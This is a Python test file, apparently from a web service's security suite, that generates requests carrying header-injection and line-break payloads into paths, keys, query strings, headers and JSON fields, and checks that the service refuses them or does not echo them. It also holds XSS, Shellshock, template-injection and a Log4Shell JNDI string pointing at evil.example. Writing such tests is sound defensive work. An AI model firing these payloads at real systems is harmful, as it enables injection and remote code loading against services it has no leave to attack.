"""Line breaks, in the hope for a header of one's own."""

from __future__ import annotations

from collections.abc import Iterator

from tests.web.hostile.rows import FOUND_NOTHING, IMAGES, PRIVATE, PUBLIC, REFUSED, Row, ask, send_json

BREAKS = {
    "CRLF": "%0d%0aX-Injected:%20yes",
    "LF": "%0aX-Injected:%20yes",
    "CR": "%0dX-Injected:%20yes",
    "a whole answer": "%0d%0a%0d%0a<script>alert(1)</script>",
    "NEL": "%c2%85X-Injected:%20yes",
    "line separator": "%e2%80%a8X-Injected:%20yes",
    "cut to CRLF": "%e5%98%8d%e5%98%8aX-Injected:%20yes",
    "twice encoded": "%250d%250aX-Injected:%20yes",
}
LEGAL_BREAKS = ("cut to CRLF", "twice encoded")
"""Which are no line breaks, if nobody decodes them wrongly."""


def breaks() -> Iterator[Row]:
    for name, text in BREAKS.items():
        legal = name in LEGAL_BREAKS
        found = FOUND_NOTHING if legal else REFUSED
        yield Row(f"{name} in a bucket", ask(f"/v1/buckets/{text}"), found)
        yield Row(f"{name} in a key", ask(f"{IMAGES}/{text}"), found)
        yield Row(f"{name} in an upload's key", ask(f"{IMAGES}/{text}", "PUT", body=b"x"))
        yield Row(f"{name} in a key of a query", ask(f"{IMAGES}?key={text}", "POST", body=b"x"))
        yield Row(f"{name} in a delivered key", ask(f"/default/image/upload/{text}", auth=False), found)
        yield Row(f"{name} in a version", ask(f"/default/image/upload/v1{text}/x", auth=False), found)
        yield Row(f"{name} in a path", ask(f"/{text}"), found)
        yield Row(f"{name} in a cursor", ask(f"{IMAGES}?cursor={text}"))
        yield Row(f"{name} in a parameter's name", ask(f"{IMAGES}?{text}=1"))
        yield Row(f"{name} in tags", ask(f"{IMAGES}/there.jpg?tags={text}", "PUT", body=b"x"))
        yield Row(
            f"{name} in a signature",
            ask(f"{PRIVATE}?access_key={text}&expires=1&signature={text}", auth=False),
        )
        yield Row(
            f"{name} in an expiry", ask(f"{PRIVATE}?access_key=@KEY@&expires=1{text}&signature=x", auth=False)
        )
        yield Row(f"{name} in a credential", ask(f"/v1/credentials/{text}", "DELETE"), found)
    for field in (
        b"X-Request-Id: abcdefgh\rX-Injected: yes",
        b"X-Request-Id: abcdefgh\nX-Injected: yes\n",
        b"X-Request-Id: abcdefgh\x00X-Injected: yes",
        b"X-Request-Id: abcdefgh\x0bX-Injected",
        b"Origin: https://evil.example\r X-Injected: yes",
    ):
        yield Row(f"header {field!r}", ask(PUBLIC, "GET", field), absent=b"X-Injected")
    for text in ("a\r\nX-Injected: yes", "ab\u0000", "a\u2028b", "a\nb"):
        yield Row(f"{text!r} as a bucket's name", send_json("/v1/buckets", {"name": text}))
        yield Row(f"{text!r} as a key to sign", send_json("/v1/buckets/default/signed-urls", {"key": text}))
        yield Row(f"{text!r} as a tag", send_json(f"{IMAGES}/there.jpg", {"tags": [text]}, "PATCH"))
    for value in ("<script>alert(1)</script>", "() { :; }; echo", "${jndi:ldap://evil.example/a}", "{{7*7}}"):
        request = ask("/nope", "GET", f"X-Request-Id: {value}", f"User-Agent: {value}", f"Referer: {value}")
        yield Row(f"headers with {value}", request, absent=value.encode())
